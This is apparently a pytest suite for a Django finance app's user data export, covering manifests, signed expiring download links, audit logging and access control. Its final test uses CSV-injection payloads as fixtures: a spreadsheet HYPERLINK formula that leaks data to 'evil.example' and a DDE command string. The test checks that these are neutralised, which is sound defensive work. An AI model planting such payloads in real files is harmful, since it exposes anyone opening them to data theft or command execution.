"""Data export: contents, manifest and checksums, signed download links, expiry, audit."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date, timedelta
from decimal import Decimal
from urllib.parse import urlparse

import pytest
from django.utils import timezone
from rest_framework.test import APIClient

from conftest import auth_client
from finance.audit.models import AuditAction, AuditEvent
from finance.households.models import Membership, Role
from finance.ledger import services as ledger
from finance.ledger.inputs import TransactionInput
from finance.privacy import archive
from finance.privacy.models import DataExport, ExportStatus
from finance.privacy.services import export_data, export_request
from finance.privacy.tasks import purge_expired_exports
from finance.privacy.tests.data import load, populate, unzip
from finance.users.tests.factories import HouseholdFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def exported(user, household, celery_eager, django_capture_on_commit_callbacks):
    """An export of a user who owns one household and views another; a third is someone else's."""
    populate(household, user)
    shared = HouseholdFactory(name="Parents' flat")
    Membership.objects.create(household=shared, user=user, role=Role.VIEWER)
    populate(shared, None, tag="visit")
    populate(HouseholdFactory(name="Not mine"), None)
    api = auth_client(user)
    with django_capture_on_commit_callbacks(execute=True):
        started = api.post("/api/v1/privacy/export/", HTTP_X_REQUEST_ID="req-export")
    assert started.status_code == 202, started.content
    assert started.json()["status"] == "pending"
    assert started.json()["download_url"] is None
    return api, started.json()["id"]


def download(api: APIClient, export_id: str) -> tuple[dict, bytes]:
    listed = api.get("/api/v1/privacy/export/").json()["results"]
    row = next(r for r in listed if r["id"] == export_id)
    assert row["status"] == "ready", row
    url = urlparse(row["download_url"])
    response = APIClient().get(f"{url.path}?{url.query}")  # the signed link needs no bearer token
    assert response.status_code == 200, response
    assert response["Content-Type"] == "application/zip"
    return row, b"".join(response.streaming_content)


def test_export_holds_everything_the_user_can_see_with_a_checked_manifest(exported, user, household):
    api, export_id = exported
    row, content = download(api, export_id)
    assert row["sha256"] == hashlib.sha256(content).hexdigest()
    assert row["size"] == len(content)
    files = unzip(content)

    manifest = load({"json/manifest.json": files["manifest.json"]}, "manifest")
    assert manifest["format"] == archive.FORMAT
    assert manifest["schema_version"] == archive.SCHEMA_VERSION
    assert manifest["user"] == {"id": str(user.pk), "username": user.username}
    assert set(manifest["files"]) == set(files) - {"manifest.json"}
    for path, meta in manifest["files"].items():
        assert meta == {"sha256": hashlib.sha256(files[path]).hexdigest(), "bytes": len(files[path])}
    assert manifest["counts"] == row["counts"]
    assert manifest["counts"]["transactions"] == 10
    assert manifest["counts"]["households"] == 2

    assert load(files, "profile")["username"] == user.username
    assert {h["name"] for h in load(files, "households")} == {household.name, "Parents' flat"}
    assert {(m["username"], m["role"]) for m in load(files, "memberships")} == {
        (user.username, "owner"),
        (user.username, "viewer"),
    }
    transactions = load(files, "transactions")
    split = next(t for t in transactions if t["splits"] and str(t["household"]) == str(household.pk))
    assert [s["amount"] for s in split["splits"]] == ["64.3000000000", "20.0000000000"]
    tags = {t["id"]: t["name"] for t in load(files, "tags")}
    assert sorted(tags[t] for t in split["tags"]) == ["food", "holiday"]
    assert {t["payee"] for t in transactions} >= {"ACME Corp", "Corner Grocer", "Trattoria Roma"}
    rates = load(files, "exchange_rates")
    assert [(r["base"], r["quote"], r["rate"]) for r in rates] == [("EUR", "USD", "1.085000000000")] * 2
    assert "Not mine" not in files["json/households.json"].decode()

    table = list(csv.DictReader(io.StringIO(files["csv/splits.csv"].decode())))
    assert len(table) == 4
    assert set(table[0]) >= {"transaction", "category", "amount", "description"}
    assert len(list(csv.DictReader(io.StringIO(files["csv/transactions.csv"].decode())))) == 10
    assert {p.removeprefix("csv/") for p in files if p.startswith("csv/")} >= {
        "profile.csv",
        "households.csv",
        "memberships.csv",
        "accounts.csv",
        "categories.csv",
        "tags.csv",
        "exchange_rates.csv",
        "transactions.csv",
        "transaction_tags.csv",
    }


def test_requests_and_downloads_are_audited(exported, user):
    api, export_id = exported
    requested = AuditEvent.objects.get(action=AuditAction.EXPORT_REQUEST)
    assert (requested.actor_id, requested.target_id, requested.request_id) == (user.pk, export_id, "req-export")
    download(api, export_id)
    downloaded = AuditEvent.objects.get(action=AuditAction.EXPORT_DOWNLOAD)
    assert (downloaded.actor_id, downloaded.target_id, downloaded.ip) == (user.pk, export_id, "127.0.0.1")


def test_download_links_expire_and_are_bound_to_their_export(clock, exported, user, settings):
    api, export_id = exported
    row = api.get("/api/v1/privacy/export/").json()["results"][0]
    url = urlparse(row["download_url"])
    token = url.query.removeprefix("token=")
    other = export_request(user=user)  # a second export id of the same user
    wrong = APIClient().get(f"/api/v1/privacy/export/{other.pk}/download/?token={token}")
    assert wrong.status_code == 404
    assert APIClient().get(f"{url.path}?token=forged").status_code == 404
    assert APIClient().get(url.path).status_code == 404

    clock.shift(settings.EXPORT_LINK_MAX_AGE + timedelta(seconds=1))
    expired = APIClient().get(f"{url.path}?{url.query}")
    assert expired.status_code == 409
    assert expired.json()["errors"][0]["code"] == "link_expired"
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT_DOWNLOAD).exists()
    fresh = auth_client(user).get("/api/v1/privacy/export/").json()["results"]  # the old access token expired
    assert next(r for r in fresh if r["id"] == export_id)["download_url"] != row["download_url"]


def test_expired_exports_lose_their_file(clock, exported, user, media, settings):
    _, export_id = exported
    export = DataExport.objects.get(pk=export_id)
    assert (media / export.file).exists()
    clock.shift(settings.EXPORT_RETENTION + timedelta(seconds=1))
    assert purge_expired_exports.apply().get() == 1
    export.refresh_from_db()
    assert (export.status, export.file) == (ExportStatus.EXPIRED, "")
    assert not list(media.rglob("*.zip"))
    row = auth_client(user).get("/api/v1/privacy/export/").json()["results"][0]
    assert (row["status"], row["download_url"]) == ("expired", None)


def test_exports_are_private_and_one_at_a_time(clock, user, household):
    api = auth_client(user)
    first = api.post("/api/v1/privacy/export/")  # no worker ran: it stays pending
    assert first.status_code == 202
    again = api.post("/api/v1/privacy/export/")
    assert again.status_code == 409
    assert again.json()["errors"][0]["code"] == "export_in_progress"
    stranger = auth_client(UserFactory())
    assert stranger.get("/api/v1/privacy/export/").json()["results"] == []
    assert APIClient().get("/api/v1/privacy/export/").status_code == 401
    DataExport.objects.filter(pk=first.json()["id"]).update(status=ExportStatus.FAILED, finished_at=timezone.now())
    assert api.post("/api/v1/privacy/export/").status_code == 202
    # One that never finished (its worker died) stops blocking after an hour.
    clock.shift(3601)
    assert auth_client(user).post("/api/v1/privacy/export/").status_code == 202


def test_csv_files_neutralise_formulas_while_the_json_keeps_the_exact_text(user, household):
    """Text a spreadsheet would run (CSV injection) starts with an apostrophe in the CSVs; JSON is exact."""
    hyperlink = '=HYPERLINK("https://evil.example/?d="&A1, "Refund")'
    dde = "=cmd|' /C calc'!A0"
    account = ledger.account_create(
        household=household, actor=user, name="@SUM(1+1)", opening_balance=Decimal("-250.00")
    )
    ledger.transaction_create(
        household=household,
        actor=user,
        data=TransactionInput(
            account=account,
            type="expense",
            amount=Decimal("12.50"),
            date=date(2026, 3, 1),
            payee=hyperlink,
            description=dde,
            notes="-2+3",
            tags=["+1+1"],
        ),
    )
    buffer = io.BytesIO()
    archive.write_archive(buffer, data=export_data(user=user), user=user, created_at=timezone.now())
    files = unzip(buffer.getvalue())

    transactions = list(csv.DictReader(io.StringIO(files["csv/transactions.csv"].decode())))
    (row,) = [t for t in transactions if t["amount"] == "12.5000000000"]
    assert (row["payee"], row["description"], row["notes"]) == ("'" + hyperlink, "'" + dde, "'-2+3")
    accounts = {a["name"]: a for a in csv.DictReader(io.StringIO(files["csv/accounts.csv"].decode()))}
    assert accounts["'@SUM(1+1)"]["opening_balance"] == "-250.0000000000"  # a number stays a number
    assert [t["name"] for t in csv.DictReader(io.StringIO(files["csv/tags.csv"].decode()))] == ["'+1+1"]

    (exact,) = [t for t in load(files, "transactions") if t["payee"] == hyperlink]
    assert (exact["description"], exact["notes"]) == (dde, "-2+3")
    assert [a["name"] for a in load(files, "accounts")] == ["@SUM(1+1)"]
    assert [t["name"] for t in load(files, "tags")] == ["+1+1"]
